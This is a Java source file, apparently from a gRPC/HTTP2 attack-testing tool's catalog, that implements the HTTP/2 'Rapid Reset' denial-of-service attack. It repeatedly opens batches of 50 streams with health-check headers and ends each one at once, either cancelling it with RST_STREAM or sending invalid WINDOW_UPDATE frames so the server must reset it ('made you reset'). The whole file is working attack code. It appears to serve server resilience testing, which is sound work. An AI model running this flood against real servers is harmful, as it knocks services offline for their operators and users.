package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;

/**
 * Begins calls and has them end at once: cancels them itself, or sends a frame for which the server
 * must reset them ("made you reset"), so that the calls do not count as open.
 */
final class RapidReset extends Attack {
  private static final int AT_ONCE = 50;
  private static final int CANCEL = 8;

  private final boolean byServer;

  RapidReset(String name, boolean byServer) {
    super(name, Family.FRAMES, Access.NO_KEY, Bounds.of(200, 64, 4));
    this.byServer = byServer;
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(4, () -> flood(attempt));
  }

  private void flood(Attempt attempt) throws IOException {
    byte[] headers = Grpc.headers(Grpc.HEALTH_CHECK, "");
    try (Http2 connection = attempt.grpc()) {
      while (attempt.isRunning()) {
        ByteArrayOutputStream calls = new ByteArrayOutputStream();
        for (int i = 0; i < AT_ONCE; i++) {
          int stream = connection.newStream();
          calls.writeBytes(new Frame(Frame.HEADERS, Frame.END_HEADERS, stream, headers).encode());
          calls.writeBytes(ending(stream).encode());
        }
        connection.send(calls.toByteArray());
        while (connection.hasInput()) {
          connection.read();
        }
      }
    }
  }

  /** A window may neither grow by nothing nor beyond 31 bits: both are errors of the stream. */
  private Frame ending(int stream) {
    if (!byServer) {
      return Frame.ofInt(Frame.RST_STREAM, stream, CANCEL);
    }
    int more = stream % 4 == 1 ? 0 : Integer.MAX_VALUE;
    return Frame.ofInt(Frame.WINDOW_UPDATE, stream, more);
  }
}
